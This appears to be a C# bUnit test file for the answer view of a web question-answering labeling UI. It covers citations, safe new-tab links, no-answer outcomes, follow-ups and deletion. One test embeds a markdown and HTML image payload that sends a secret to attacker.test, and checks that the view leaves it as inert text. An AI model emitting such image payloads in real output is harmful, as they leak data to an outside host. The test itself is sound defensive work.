using Bunit;
using WebQA.Core.Answers;
using WebQA.Core.Episodes;
using WebQA.LabelingUi.Components.Answers;

namespace WebQA.LabelingUi.Tests.Components;

public sealed class AnswerViewTests : UiTest
{
    [Fact]
    public async Task A_citation_leads_to_the_stored_page_of_its_quote()
    {
        var view = await RenderAsync();

        Assert.Equal($"/pages/{World.Web.Gifts.PageSha256}?episode=e1&quote=1", view.Find("a.cite").GetAttribute("href"));
    }

    [Fact]
    public async Task A_number_without_a_quote_is_struck_through_and_explained()
    {
        var view = await RenderAsync();

        Assert.Equal("7 ([7] has no quote: the quotes are [1] to [2].)", view.Find(".cite.err").TextContent);
        Assert.Contains("[7] has no quote", view.Find(".notice.warn").TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_live_page_opens_in_a_new_tab_that_learns_nothing()
    {
        var view = await RenderAsync();

        Assert.All(view.FindAll(".live-link"), link => Assert.Equal(("_blank", "noopener noreferrer"), (link.GetAttribute("target"), link.GetAttribute("rel"))));
    }

    [Fact]
    public async Task An_image_in_an_answer_stays_text_and_nothing_is_loaded_for_it()
    {
        const string Answer = "It is so [1]. ![x](http://attacker.test/?d=SECRET) <img src=\"http://attacker.test/?d=SECRET\">";
        var view = await RenderAsync(state => state with { Composed = new AnswerComposed(state.Composed!.Answer! with { Text = Answer, Citations = [], Errors = [] }, null) });

        Assert.Contains("![x](http://attacker.test/?d=SECRET) <img src=", view.Find("article").TextContent, StringComparison.Ordinal);
        Assert.Empty(view.FindAll("[src*='attacker'], [href*='attacker']"));
    }

    [Fact]
    public async Task An_assembled_answer_says_what_it_is()
    {
        var view = await RenderAsync(state => state with { Composed = new AnswerComposed(state.Composed!.Answer! with { IsAssembledFromQuotes = true }, null) });

        Assert.Contains("assembled from quotes", view.Find(".notice").TextContent, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(Outcome.NotEnoughEvidence, "No answer: what was read does not answer the question")]
    [InlineData(Outcome.Nonsense, "No answer: the question makes no sense to the policy")]
    [InlineData(Outcome.Controversial, "No answer: the question should not be answered with a settled tone")]
    [InlineData(Outcome.Stopped, "Stopped before there was an answer")]
    [InlineData(Outcome.Failed, "No answer: something went wrong")]
    public async Task Without_an_answer_the_reason_and_what_was_tried_are_shown(Outcome outcome, string title)
    {
        var view = await RenderAsync(state => state with { Composed = null, Ended = new EpisodeEnded(outcome, "The reason.") });

        Assert.Equal(title, view.Find(".noanswer h2").TextContent);
        Assert.Contains("The reason.", view.Find(".noanswer").TextContent, StringComparison.Ordinal);
        Assert.Equal("“crows gifts”: 2 results", view.FindAll(".tried li")[0].TextContent);
        Assert.Empty(view.FindAll("[data-copy-from]"));
    }

    [Fact]
    public async Task A_follow_up_names_the_episode_whose_quotes_it_starts_with()
    {
        var view = await RenderAsync();

        Assert.Equal("e1", view.Find("form.followup input[name=follow_up_of]").GetAttribute("value"));
        Assert.Equal("Ask a follow-up. The 2 quotes stay at hand.", view.Find("#follow-up").GetAttribute("placeholder"));
    }

    [Fact]
    public async Task Deleting_asks_first_and_leads_to_the_history()
    {
        var view = await RenderAsync();

        view.FindAll("button").Single(b => b.TextContent == "Delete").Click();
        Dialogs.WaitForAssertion(() => Assert.Contains("deleted for good", Dialogs.Markup, StringComparison.Ordinal));
        Assert.NotNull(await World.Episodes.FindAsync("e1"));
        Dialogs.FindAll("button").Single(b => b.TextContent == "Delete the episode").Click();

        view.WaitForAssertion(() => Assert.EndsWith("/history", Address, StringComparison.Ordinal));
        Assert.Null(await World.Episodes.FindAsync("e1"));
    }

    private async Task<IRenderedComponent<AnswerView>> RenderAsync(Func<EpisodeState, EpisodeState>? change = null)
    {
        var feed = await World.EndedAsync();
        var state = change is null ? feed.State! : change(feed.State!);
        return Context.Render<AnswerView>(p => p.Add(v => v.State, state).Add(v => v.StartedAt, feed.StartedAt).Add(v => v.EndedAt, feed.LastEventAt));
    }
}
